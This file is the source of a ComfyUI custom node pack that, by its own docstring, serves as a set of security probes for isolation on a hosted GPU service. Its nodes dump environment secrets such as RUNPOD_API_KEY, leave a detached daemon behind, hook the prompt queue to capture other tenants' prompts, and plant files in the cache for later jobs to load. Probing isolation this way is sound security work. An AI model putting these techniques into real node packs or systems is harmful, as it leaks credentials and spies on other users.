"""A leaky custom node pack, for the security probes only: it prints an environment variable (or its
whole environment: mode "environ"), raises with it and returns it as a text output — what a careless or
hostile pack could do with a secret.
RPSecDaemon and RPSecHook do what code a job smuggled into ComfyUI would (a pickle, an eval): leave a
daemon behind, and hook ComfyUI's prompt queue to read the next tenants' prompts. RPSecCache writes what a
pack's download cache would, under ComfyUI's HOME."""

import json
import os
import time


class RPSecEnvEcho:
    @classmethod
    def INPUT_TYPES(cls):
        return {
            "required": {
                "name": ("STRING", {"default": "RUNPOD_API_KEY"}),
                "mode": (["text", "raise", "environ"],),
            }
        }

    RETURN_TYPES = ()
    FUNCTION = "run"
    OUTPUT_NODE = True
    CATEGORY = "rp_test"

    def run(self, name, mode):
        if mode == "environ":
            dump = json.dumps(dict(os.environ), sort_keys=True)
            print(f"RPSecEnvEcho environ {dump}", flush=True)
            return {"ui": {"text": [dump]}}
        value = os.environ.get(name, "<unset>")
        print(f"RPSecEnvEcho {name}={value}", flush=True)
        if mode == "raise":
            raise RuntimeError(f"leaking {name}: {value}")
        return {"ui": {"text": [f"{name}={value}"]}}


class RPSecDaemon:
    """setsid + double fork: a process outside ComfyUI's tree (its parent is not ComfyUI); its pid is the
    first text, ComfyUI's RLIMIT_NPROC the second."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"nonce": ("INT", {"default": 0})}}

    RETURN_TYPES = ()
    FUNCTION = "run"
    OUTPUT_NODE = True
    CATEGORY = "rp_test"

    def run(self, nonce):
        read, write = os.pipe()
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.write(write, str(os.getpid()).encode())
                os.close(write)
                time.sleep(600)
            os._exit(0)
        os.close(write)
        pid = os.read(read, 32).decode()
        os.close(read)
        os.wait()
        import resource

        soft, hard = resource.getrlimit(resource.RLIMIT_NPROC)
        return {"ui": {"text": [pid, f"nproc {soft} {hard}"]}}


CAPTURED = []  # what the hook saw: lives as long as ComfyUI's process


class RPSecHook:
    """`hook`: wrap PromptServer's queue so every later prompt is copied here; `dump`: return what was seen."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"op": (["hook", "dump"],), "nonce": ("INT", {"default": 0})}}

    RETURN_TYPES = ()
    FUNCTION = "run"
    OUTPUT_NODE = True
    CATEGORY = "rp_test"

    def run(self, op, nonce):
        from server import PromptServer

        queue = PromptServer.instance.prompt_queue
        if op == "hook" and not getattr(queue.put, "rp_hooked", False):
            original = queue.put

            def put(item):
                CAPTURED.append(json.dumps(item, default=str))
                return original(item)

            put.rp_hooked = True
            queue.put = put
        hooked = getattr(queue.put, "rp_hooked", False)
        return {"ui": {"text": [json.dumps({"hooked": hooked, "captured": CAPTURED})]}}


class RPSecCache:
    """A pack's download cache: HOME/.cache/rp_pack_cache/<name>, written once (kept across jobs)."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"name": ("STRING", {"default": "a"})}}

    RETURN_TYPES = ()
    FUNCTION = "run"
    OUTPUT_NODE = True
    CATEGORY = "rp_test"

    def run(self, name):
        path = os.path.join(os.path.expanduser("~"), ".cache", "rp_pack_cache", name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if not os.path.exists(path):
            with open(path, "w") as fh:
                fh.write("downloaded once")
        return {"ui": {"text": [path]}}


class RPSecPlant:
    """What code smuggled into ComfyUI would leave for later jobs' code to load: `plant` a file in HOME's
    cache (Triton's, CUDA's compiled kernels live there), or `rewrite` RPSecCache's file "b"."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"op": (["plant", "rewrite"],), "nonce": ("INT", {"default": 0})}}

    RETURN_TYPES = ()
    FUNCTION = "run"
    OUTPUT_NODE = True
    CATEGORY = "rp_test"

    def run(self, op, nonce):
        cache = os.path.join(os.path.expanduser("~"), ".cache")
        path = os.path.join(cache, "planted_kernel.so") if op == "plant" else os.path.join(cache, "rp_pack_cache", "b")
        with open(path, "w") as fh:
            fh.write(f"planted {nonce}")
        return {"ui": {"text": [path]}}


NODE_CLASS_MAPPINGS = {
    "RPSecPlant": RPSecPlant,
    "RPSecEnvEcho": RPSecEnvEcho,
    "RPSecDaemon": RPSecDaemon,
    "RPSecHook": RPSecHook,
    "RPSecCache": RPSecCache,
}
